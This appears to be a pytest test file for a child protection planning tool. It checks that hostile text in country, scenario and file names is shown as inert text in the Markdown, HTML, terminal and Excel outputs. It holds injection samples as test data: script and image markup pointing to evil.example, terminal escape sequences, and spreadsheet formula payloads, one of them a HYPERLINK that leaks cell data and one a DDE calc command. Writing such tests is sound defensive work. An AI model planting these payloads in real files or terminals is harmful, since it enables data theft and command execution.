"""Hostile text in every output: a country name, a scenario name, a file name or a knowledge base text that holds
markup, a formula, line breaks or terminal control sequences is shown as text, and never acts.

Most tests put the hostile text straight into the data a renderer receives, as text can reach a renderer by paths
other than a checked assessment (the Python API, a scenario or a knowledge base, a file name); the command-line
tests use what any input reader lets through (file names, markup).
"""

from __future__ import annotations

import copy
import dataclasses
import datetime
import io
import json
import re
import shutil
import zipfile
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from cpss_advisor.render import portfolio_text as portfolio
from cpss_advisor.intake.load import load_assessment
from cpss_advisor.core.escape import terminal, visible
from cpss_advisor.render.plan_html import render_html
from cpss_advisor.render.kb_views import render_subdomain, subdomain_view
from cpss_advisor.planning.plan_model import Plan
from cpss_advisor.planning.pipeline import Advisor, PlanOptions
from cpss_advisor.render.plan_text import render_markdown, render_text
from cpss_advisor.engine.rule_loader import load_rulebook
from cpss_advisor.analysis.scenario import Scenario
from cpss_advisor.render.assessment_template import blank_assessment
from cpss_advisor.analysis.whatif import whatif
from cpss_advisor.render.whatif_text import render_whatif
from cpss_advisor.render.workbook import plan_workbook, template_workbook

from tests.conftest import EXAMPLES, FIXTURES, run_cli

BEREMIA = EXAMPLES / "beremia-conflict.yaml"
MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])

#: Markup that would load a remote image, run a script, open a javascript: link or start a heading.
MARKUP = ('<img src="http://evil.example/x.png"> ![p](http://evil.example/p.png) [open](javascript:alert(1)) '
          "<script>alert(1)</script> *x* `y` | z")
HEADING = "Land\n# Injected heading\n\n<div>block</div>\n---"
#: Clear the screen, set the window title (OSC), a NUL, a C1 CSI, a carriage return that rewrites the line.
CONTROLS = "Ter\x1b[2J\x1b]0;pwned\x07ra\x00\x9b[31m\rFAKE"
#: No raw control character, except the line breaks (and, in HTML and cells, tabs) of the output itself.
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
FORMULAS = ['=HYPERLINK("http://evil.example/?"&Plan!L2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "#N/A"]


def no_raw_controls(text: str, *, tab: bool = False) -> bool:
    return not RAW_CONTROL.search(text.replace("\t", "") if tab else text) and ("\t" not in text or tab)


@pytest.fixture(scope="module")
def advisor(kb):
    return Advisor(kb, load_rulebook(kb))


@pytest.fixture(scope="module")
def plan(advisor):
    return advisor.plan(load_assessment(BEREMIA, advisor.kb), PlanOptions())


def poisoned(plan: Plan, text: str) -> Plan:
    """The plan with `text` as its country and in every free text a person or a knowledge base writes."""
    d = copy.deepcopy(plan.model_dump(mode="json"))
    d["country"] = text
    for a in d["advice"]:
        a["text"] = text
    for w in d["warnings"]:
        w["text"] = text
    for x in d["deferred"]:
        x["reason"] = text
    for r in d["recommendations"]:
        for iv in r["interventions"]:
            iv["title"] = text
        for x in r["rationale"]:
            x["text"] = x["source"] = text
        for c in r["criteria"].values():
            c["summary"] = text
            c["criteria"] = [text]
    return Plan.model_validate(d)


def tokens(src: str) -> list:
    return [t for b in MD.parse(src) for t in [b, *(b.children or [])]]


def assert_inert_markdown(src: str) -> list:
    """No raw HTML, link, image or control character in a Markdown document; its tokens."""
    toks = tokens(src)
    assert not [t for t in toks if t.type in {"html_block", "html_inline", "image", "link_open"}]
    assert no_raw_controls(src)
    return toks


def text_of(inline) -> str:
    """What an inline token shows: its text and code, a soft line break as a space."""
    return "".join(" " if c.type == "softbreak" else c.content for c in inline.children or [])


def headings(toks: list) -> list[tuple[str, str]]:
    return [(t.tag, text_of(toks[i + 1])) for i, t in enumerate(toks) if t.type == "heading_open"]


def shown(text: str) -> str:
    """`text` on one line as an output shows it: control characters as escapes, whitespace runs as one space."""
    return " ".join(visible(text, keep=" \t\n\r").split())


# --- Markdown -----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", [MARKUP, HEADING, CONTROLS], ids=["markup", "heading", "controls"])
def test_markdown_plan_shows_hostile_text_as_text(plan, kb, text):
    benign = headings(tokens(render_markdown(plan, kb, detail="full")))
    toks = assert_inert_markdown(render_markdown(poisoned(plan, text), kb, detail="full"))
    got = headings(toks)
    assert [h for h, _ in got] == [h for h, _ in benign]  # no heading added, none lost
    assert got[0] == ("h1", f"Child protection systems strengthening plan: {shown(text)}")
    heading = next(i for i, t in enumerate(toks) if t.type == "inline" and t.content == "Roadmap")
    roadmap = next(i for i in range(heading, len(toks)) if toks[i].type == "table_open")
    row = [text_of(toks[i + 1]) for i in range(roadmap, len(toks)) if toks[i].type == "td_open"][:6]
    assert row[5] == shown(text)  # the first intervention's title, in its own cell, whatever '|' it holds


def test_renderers_with_hostile_knowledge(plan, kb):
    """A knowledge base given with --knowledge is text someone else wrote, too."""
    hostile = copy.copy(kb)
    hostile.subdomains = {sid: dataclasses.replace(s, short=MARKUP[:40], title=CONTROLS + "\nratings: {}")
                          for sid, s in kb.subdomains.items()}
    assert_inert_markdown(render_markdown(plan, hostile))
    assert no_raw_controls(render_text(plan, hostile))
    assert no_raw_controls(render_html(plan, hostile), tab=True)
    assert no_raw_controls(render_subdomain(subdomain_view(hostile, "3.3")))
    template = blank_assessment(hostile, datetime.date(2026, 1, 1))
    assert no_raw_controls(template)
    assert len(template.splitlines()) == len(blank_assessment(kb, datetime.date(2026, 1, 1)).splitlines())
    plan_workbook(plan, hostile)  # openpyxl alone raises IllegalCharacterError
    template_workbook(hostile, datetime.date(2026, 1, 1))


def _portfolio_dir(tmp_path: Path, country: str) -> tuple[Path, Path]:
    d = tmp_path / "region"
    d.mkdir()
    name = d / "a|b`c <img src=x> [l](javascript:y) \x1b]0;pwned\x07\nz.yaml"
    name.write_text(BEREMIA.read_text(encoding="utf-8").replace("country: Beremia", "country: " + json.dumps(country)),
                    encoding="utf-8")
    shutil.copy(EXAMPLES / "aldovia-early-stable.yaml", d / "aldovia.yaml")
    return d, name


def test_markdown_portfolio_shows_hostile_countries_and_file_names_as_text(tmp_path):
    d, name = _portfolio_dir(tmp_path, MARKUP)
    r = run_cli("portfolio", d, "-f", "markdown")
    assert r.code == 0, r.stderr
    toks = assert_inert_markdown(r.stdout)
    cells = [text_of(toks[i + 1]) for i, t in enumerate(toks) if t.type == "td_open"]
    assert MARKUP in cells  # the country, in its own cell
    assert cells.count(shown(str(name))) == 2  # the file, in the phase table and among the inputs
    assert ("h3", f"{MARKUP} ({shown(str(name))})") in headings(toks)
    # The same data with control characters in the country, rendered directly.
    data = json.loads(run_cli("portfolio", d, "-f", "json").stdout)
    for row in data["countries"]:
        row["country"] = CONTROLS + "\n# x"
    assert_inert_markdown(portfolio.render_markdown(data))
    assert no_raw_controls(portfolio.render_text(data))


# --- what-if (text) -----------------------------------------------------------------------------------------------

HOSTILE_NAME = "budget\x1b[2J\x1b]0;pwned\x07\x00\nScenario 'fake': nothing changes"


def test_whatif_text_shows_a_hostile_scenario_name_as_text(advisor):
    a = load_assessment(BEREMIA, advisor.kb)
    report = whatif(advisor, a, [Scenario(HOSTILE_NAME, set=(("5.1", 3),))], PlanOptions())
    benign = whatif(advisor, a, [Scenario("budget", set=(("5.1", 3),))], PlanOptions())
    out = render_whatif(report)
    assert no_raw_controls(out)
    assert len(out.splitlines()) == len(render_whatif(benign).splitlines())
    assert f"Scenario '{terminal(HOSTILE_NAME)}': 5.1 set to 3" in out.splitlines()


def test_whatif_scenario_file_with_escape_and_nul_in_a_name(tmp_path):
    f = tmp_path / "scenarios.yaml"
    f.write_text('kind: scenarios\nschema_version: 1\nscenarios:\n  - name: "a\\e]0;pwned\\a\\0b"\n'
                 "    set: {'5.1': 3}\n", encoding="utf-8")
    r = run_cli("whatif", BEREMIA, "--scenarios", f)
    # Whether or not the scenario reader accepts such a name, nothing raw reaches the terminal.
    assert r.code in (0, 1) and no_raw_controls(r.stdout) and no_raw_controls(r.stderr)
    if r.code == 0:
        assert "Scenario 'a\\x1b]0;pwned\\x07\\x00b': 5.1 set to 3" in r.stdout


# --- text plan and HTML -------------------------------------------------------------------------------------------

def test_text_plan_shows_control_characters_as_escapes(plan, kb):
    text = CONTROLS + "\nFake line"
    out = render_text(poisoned(plan, text), kb)
    assert no_raw_controls(out)
    # As many lines as for the same text already escaped: no line break in the text starts a line.
    assert len(out.splitlines()) == len(render_text(poisoned(plan, terminal(" ".join(text.split()))), kb).splitlines())
    assert out.splitlines()[0] == f"Plan for {terminal(CONTROLS)}\\nFake line (assessment as of 2026-06-30)"


def test_html_plan_has_no_control_characters(plan, kb):
    page = render_html(poisoned(plan, CONTROLS + MARKUP), kb)
    assert no_raw_controls(page, tab=True) and "<script>" not in page and "<img" not in page
    assert "Ter\\x1b[2J\\x1b]0;pwned\\x07ra\\x00\\x9b[31m\\rFAKE&lt;img" in page


# --- stderr: messages naming a file -------------------------------------------------------------------------------

def test_error_naming_a_missing_file_shows_its_control_characters(tmp_path):
    name = tmp_path / "x\x1b]0;pwned\x07\x1b[2J\nfake: no problem.yaml"
    r = run_cli("recommend", name)
    assert r.code == 1 and r.stdout == ""
    assert no_raw_controls(r.stderr)
    assert r.stderr.splitlines() == [f"{terminal(name)}: no such file",
                                     "  hint: check the path; it is read relative to the current directory"]


def test_error_located_in_a_file_with_escape_in_its_name(tmp_path):
    name = tmp_path / "bad\x1b[31m.yaml"
    shutil.copy(FIXTURES / "bad" / "unknown_subdomain.yaml", name)
    r = run_cli("validate", name)
    assert r.code == 1 and no_raw_controls(r.stderr)
    assert r.stderr.startswith(f"{tmp_path}/bad\\x1b[31m.yaml:")


def test_a_nul_in_a_file_name_is_a_usage_error(tmp_path):
    r = run_cli("recommend", "x\x1b[31m\x00y.yaml")
    assert r.code == 2 and no_raw_controls(r.stderr) and "internal error" not in r.stderr
    assert "'x\\x1b[31m\\x00y.yaml' holds a NUL character" in r.stderr


def test_wrote_and_usage_messages_show_control_characters_as_escapes(tmp_path):
    out = tmp_path / "plan\x1b[31m.json"
    r = run_cli("recommend", BEREMIA, "-f", "json", "-o", out)
    assert r.code == 0 and r.stderr == f"wrote {terminal(out)}\n"
    r = run_cli("recommend", BEREMIA, "-f", "\x1b]0;pwned\x07")
    assert r.code == 2 and no_raw_controls(r.stderr) and "'\\x1b]0;pwned\\x07' is not one of" in r.stderr


def test_portfolio_problems_on_stderr_name_hostile_files_safely(tmp_path):
    d = tmp_path / "region"
    d.mkdir()
    shutil.copy(FIXTURES / "bad" / "unknown_subdomain.yaml", d / "bad\x1b]0;pwned\x07\nx.yaml")
    shutil.copy(BEREMIA, d / "ok.yaml")
    r = run_cli("portfolio", d)
    assert r.code == 0 and no_raw_controls(r.stderr) and no_raw_controls(r.stdout)
    assert len(r.stderr.splitlines()) == 1


# --- workbooks ----------------------------------------------------------------------------------------------------

def _sheet_xml(data: bytes) -> dict[str, ET.Element]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: ET.fromstring(z.read(n)) for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


def _formulas(data: bytes) -> list[str]:
    return [el.text or "" for root in _sheet_xml(data).values() for el in root.iter() if el.tag.endswith("}f")]


@pytest.mark.parametrize("text", FORMULAS)
def test_plan_workbook_writes_formula_like_text_as_text(plan, kb, text):
    data = plan_workbook(poisoned(plan, text), kb)
    assert _formulas(data) == []
    wb = load_workbook(io.BytesIO(data))
    about = {r[0].value: r[1] for r in wb["About"].iter_rows(min_row=2)}
    assert about["Country"].value == text and about["Country"].data_type == "s"
    assert about["Country"].quotePrefix == (text[0] in "=+-@\t")
    assert about["To check"].value == text and about["To check"].data_type == "s"  # the first warning


def test_intake_workbook_text_is_echoed_into_the_plan_workbook_as_text(tmp_path, kb):
    wb = load_workbook(io.BytesIO(template_workbook(kb, datetime.date(2026, 1, 15))))
    ws = wb["Assessment"]
    country = next(r[1] for r in ws.iter_rows(min_row=2) if r[0].value == "Country")
    country.value = FORMULAS[0]
    country.data_type = "s"  # typed into the cell as text, as a spreadsheet program stores it
    ratings = wb["Ratings"]
    for row in ratings.iter_rows(min_row=2):
        if row[1].value == "3.3":
            row[3].value = "Building"
    intake = tmp_path / "intake.xlsx"
    wb.save(intake)
    out = tmp_path / "plan.xlsx"
    r = run_cli("recommend", intake, "-f", "xlsx", "-o", out)
    assert r.code == 0, r.stderr
    assert _formulas(out.read_bytes()) == []
    about = {r[0].value: r[1] for r in load_workbook(out)["About"].iter_rows(min_row=2)}
    assert about["Country"].value == FORMULAS[0] and about["Country"].data_type == "s"


def test_plan_workbook_with_control_characters(plan, kb):
    data = plan_workbook(poisoned(plan, CONTROLS + "_x001B_"), kb)  # openpyxl alone raises IllegalCharacterError
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for n in z.namelist():
            assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f]", z.read(n)), n
        strings = z.read("xl/sharedStrings.xml").decode()
    # The literal _x001B_ is stored with its underscore escaped (_x005F_), once: the cell shows it as typed.
    assert "\\rFAKE_x005F_x001B_<" in strings and "_x005F_x005F_" not in strings
    about = {r[0].value: r[1].value for r in load_workbook(io.BytesIO(data))["About"].iter_rows(min_row=2)}
    assert about["Country"] == "Ter\\x1b[2J\\x1b]0;pwned\\x07ra\\x00\\x9b[31m\\rFAKE_x001B_"
